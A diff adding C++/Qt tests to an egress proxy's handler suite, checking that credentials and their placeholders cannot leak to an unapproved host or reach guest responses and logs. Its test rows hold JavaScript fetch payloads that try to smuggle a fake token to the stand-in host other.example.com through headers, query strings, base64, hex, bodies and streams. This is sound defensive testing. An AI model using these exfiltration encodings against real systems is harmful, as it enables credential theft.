@@ -3,6 +3,7 @@
 #include <atomic>
 #include <csignal>
 #include <future>
+#include <mutex>
 #include <thread>
 
 #include <QTest>
@@ -12,6 +13,7 @@
 
 #include "egress_fixture.h"
 
+#include "engine/base/text.h"
 #include "engine/handler/runtime.h"
 #include "engine/policy/ladder.h"
 
@@ -21,6 +23,32 @@ using namespace sallyport::test;
 namespace {
 
 constexpr auto Host = "api.example.com";
+constexpr auto Elsewhere = "other.example.com";
+const std::string Value = "ghp_0123456789abcdefghijABCDEFGHIJ012345";
+const std::string Placeholder = "sp_A0B1C2D3E4F5G6H7I8J9K0L1M2N3O4P5Q6R7S";
+
+// One credential, for Host alone.
+std::shared_ptr<const secret::Kit> kit(api::CredentialUse use = api::CredentialUse::Placeholder)
+{
+    secret::KitEntry entry;
+    entry.credential.id = 1;
+    entry.credential.name = "github";
+    entry.credential.hosts = {Host};
+    entry.credential.use = use;
+    entry.credential.header = "Authorization: token {}";
+    entry.credential.plainHttp = true;
+    entry.credential.inBodies = true;
+    entry.placeholder = Placeholder;
+    entry.value = std::make_shared<const secret::SecretText>(Value);
+    std::vector<secret::KitEntry> entries;
+    entries.push_back(std::move(entry));
+    return std::make_shared<const secret::Kit>(std::move(entries));
+}
+
+QString js(const std::string& text)
+{
+    return '"' + QString::fromStdString(text) + '"';
+}
 
 // A key made for this test alone.
 constexpr auto RsaKey =
@@ -161,7 +189,11 @@ private slots:
         m_fixture->onNetwork([&](egress::Door&) { m_runtime.reset(); });
         m_fixture.reset();
     }
-    void init() { m_fixture->keeper().forgetRows(); }
+    void init()
+    {
+        m_fixture->keeper().forgetRows();
+        m_fixture->keeper().setKit(nullptr);
+    }
 
     void aHandlerChangesTheRequest()
     {
@@ -740,6 +772,176 @@ private slots:
             client.join();
         QCOMPARE(wrong.load(), 0);
         QVERIFY(served >= 10000);
+    }
+
+    // What a handler fetches from somebody else may hold neither the value nor its placeholder,
+    // whatever part of the request it is in.
+    void aHandlersFetchGivesNothingAway_data()
+    {
+        QTest::addColumn<QString>("init");
+        QTest::addColumn<QString>("path");
+        QTest::addColumn<QString>("where");
+        const QString value = js(Value);
+        const auto row = [](const char* name, const QString& init, const QString& path,
+                            const char* where) { QTest::newRow(name) << init << path << where; };
+        row("value, header", "{headers: {'X-A': " + value + "}}", "'/'", "a header");
+        row("placeholder, header", "{headers: {'X-A': " + js(Placeholder) + "}}", "'/'", "a header");
+        row("Basic", "{headers: {Authorization: 'Basic ' + btoa('me:' + " + value + ")}}", "'/'",
+            "a header");
+        row("query", "{}", "'/?a=' + " + value, "the address");
+        row("percent", "{}", "'/?a=%' + " + value + ".charCodeAt(0).toString(16) + " + value + ".slice(1)",
+            "the address");
+        row("base64", "{}", "'/' + btoa('x' + " + value + ").replaceAll('=', '')", "the address");
+        row("hex", "{}",
+            "'/' + [...new TextEncoder().encode(" + value +
+                ")].map(b => b.toString(16).padStart(2, '0')).join('')",
+            "the address");
+        row("body", "{method: 'POST', body: 'a=' + " + value + "}", "'/'", "the body");
+        row("body in base64", "{method: 'POST', body: btoa('abc' + " + value + ")}", "'/'", "the body");
+        row("stream",
+            "{method: 'POST', body: new ReadableStream({start(c) { const b = new "
+            "TextEncoder().encode(" +
+                value + "); c.enqueue(b.slice(0, 9)); c.enqueue(b.slice(9)); c.close(); }})}",
+            "'/'", "the body");
+        row("the guest's body", "{method: 'POST', body: request.body}", "'/'", "the body");
+    }
+    void aHandlersFetchGivesNothingAway()
+    {
+        QFETCH(QString, init);
+        QFETCH(QString, path);
+        QFETCH(QString, where);
+        std::atomic<int> heads{0};
+        std::mutex mutex;
+        std::string seen;
+        ScriptedServer server([&](int socket) {
+            const std::string came = readToEnd(socket);
+            heads += came.empty() ? 0 : 1;
+            const std::lock_guard lock(mutex);
+            seen += came;
+        });
+        m_fixture->keeper().setKit(kit());
+        const QString source = QString(R"(
+            export default {
+              async outbound(request) {
+                try {
+                  return await fetch('http://other.example.com:%1' + %2, %3);
+                } catch (error) {
+                  return new Response('caught: ' + error.message);
+                }
+              }
+            })")
+                                   .arg(server.port())
+                                   .arg(path, init);
+        QVERIFY(load(source.toStdString()));
+        const CurlResult result = get("/", {"-d", "x=" + QString::fromStdString(Value)});
+        QVERIFY2(result.out.startsWith("caught: the credential github"), result.out);
+        QTRY_COMPARE(m_fixture->keeper().alarms().size(), std::size_t{1});
+        const api::CredentialAlarm alarm = m_fixture->keeper().alarms().front();
+        QCOMPARE(alarm.host, std::string(Elsewhere));
+        bool hasRow = false;
+        for (const api::RowDetail& row : m_fixture->keeper().rows()) {
+            QVERIFY(row.row.path.find(Value) == std::string::npos);
+            for (const auto& [name, text] : row.requestHeaders)
+                QVERIFY(text.find(Value) == std::string::npos);
+            if (row.row.id != alarm.row)
+                continue;
+            hasRow = true;
+            QCOMPARE(row.row.state, api::RowState::Denied);
+            QCOMPARE(row.row.step, api::Step::Credential);
+            QCOMPARE(row.row.host, std::string(Elsewhere));
+            QVERIFY2(row.row.reason.find(where.toStdString()) != std::string::npos,
+                     row.row.reason.c_str());
+            QVERIFY(row.row.reason.ends_with("by the handler outbound"));
+        }
+        QVERIFY(hasRow);
+        const std::lock_guard lock(mutex);
+        if (where != "the body")
+            QCOMPARE(heads.load(), 0);
+        QVERIFY2(seen.find(Value.substr(0, 8)) == std::string::npos, seen.c_str());
+        QVERIFY2(seen.find(Placeholder.substr(0, 8)) == std::string::npos, seen.c_str());
+    }
+
+    void aHandlersFetchIsGivenTheCredential()
+    {
+        std::mutex mutex;
+        std::string seen;
+        ScriptedServer server([&](int socket) {
+            std::string came = readUntil(socket, "END");
+            sendAll(socket, "HTTP/1.1 200 OK\r\nX-Echo: " + Value +
+                                "\r\nConnection: close\r\nContent-Length: " +
+                                std::to_string(Value.size()) + "\r\n\r\n" + Value);
+            const std::lock_guard lock(mutex);
+            seen = std::move(came);
+        });
+        for (const auto use : {api::CredentialUse::Header, api::CredentialUse::Placeholder}) {
+            m_fixture->keeper().setKit(kit(use));
+            const QString source = QString(R"(
+                export default {
+                  async outbound(request) {
+                    const answer = await fetch('http://api.example.com:%1/p?k=' + %2,
+                      {method: 'POST', headers: {'X-Key': %2}, body: 'k=' + %2 + 'END'});
+                    const text = await answer.text();
+                    return new Response([text === %2, answer.headers.get('x-echo') === %2].join());
+                  }
+                })")
+                                       .arg(server.port())
+                                       .arg(js(Placeholder));
+            QVERIFY(load(source.toStdString()));
+            QCOMPARE(get("/").out, "true,true");
+            const std::lock_guard lock(mutex);
+            QVERIFY2(seen.find("/p?k=" + Value) != std::string::npos, seen.c_str());
+            QVERIFY(seen.find("X-Key: " + Value) != std::string::npos || seen.find("x-key: " + Value) != std::string::npos);
+            QVERIFY(seen.find("\r\n\r\nk=" + Value + "END") != std::string::npos);
+            QCOMPARE(seen.find("uthorization: token " + Value) != std::string::npos,
+                     use == api::CredentialUse::Header);
+            QVERIFY(seen.find(Placeholder) == std::string::npos);
+        }
+        bool isNamed = false;
+        for (const api::RowDetail& row : m_fixture->keeper().rows()) {
+            QVERIFY(row.row.path.find(Value) == std::string::npos);
+            isNamed = isNamed || row.row.credentials == "github";
+        }
+        QVERIFY(isNamed);
+        QVERIFY(m_fixture->keeper().alarms().empty());
+    }
+
+    // A handler that was given a value may use it; the guest and the logs have its placeholder.
+    void whatAHandlerKnowsTheGuestIsNotTold_data()
+    {
+        QTest::addColumn<QString>("answer");
+        QTest::newRow("body") << "return new Response('it is ' + env.TOKEN)";
+        QTest::newRow("base64") << "return new Response(btoa(env.TOKEN))";
+        QTest::newRow("header") << "return new Response('x', {headers: {'X-A': env.TOKEN}})";
+        QTest::newRow("status text") << "return new Response('x', {statusText: env.TOKEN})";
+        QTest::newRow("error") << "throw new Error('no ' + env.TOKEN)";
+        QTest::newRow("stream")
+            << "return new Response(new ReadableStream({start(c) { const b = new "
+               "TextEncoder().encode(env.TOKEN); c.enqueue(b.slice(0, 7)); c.enqueue(b.slice(7)); c.close(); }}))";
+    }
+    void whatAHandlerKnowsTheGuestIsNotTold()
+    {
+        QFETCH(QString, answer);
+        m_fixture->keeper().setKit(kit());
+        QVERIFY(load(("export default { outbound(request, env) { console.log('token', env.TOKEN, "
+                      "btoa(env.TOKEN)); " +
+                      answer + " } }")
+                         .toStdString(),
+                     R"({"TOKEN":")" + Value + R"("})"));
+        const CurlResult result = get("/", {"-i"});
+        QVERIFY2(!result.out.contains(Value.substr(0, 12).c_str()), result.out);
+        QVERIFY(!result.out.contains(text::toBase64(Value).substr(0, 16).c_str()));
+        QVERIFY2(result.out.contains(Placeholder.c_str()) ||
+                     result.out.contains(text::toBase64(Placeholder).substr(0, 48).c_str()),
+                 result.out);
+        for (const api::HandlerLine& line : m_fixture->keeper().handlerLines()) {
+            QVERIFY2(line.text.find(Value) == std::string::npos, line.text.c_str());
+            QVERIFY(line.text.find(text::toBase64(Value).substr(0, 16)) == std::string::npos);
+        }
+        for (const api::RowDetail& row : m_fixture->keeper().rows()) {
+            QVERIFY(row.row.reason.find(Value) == std::string::npos);
+            for (const auto& [name, text] : row.responseHeaders)
+                QVERIFY(text.find(Value) == std::string::npos);
+        }
     }
 };
 
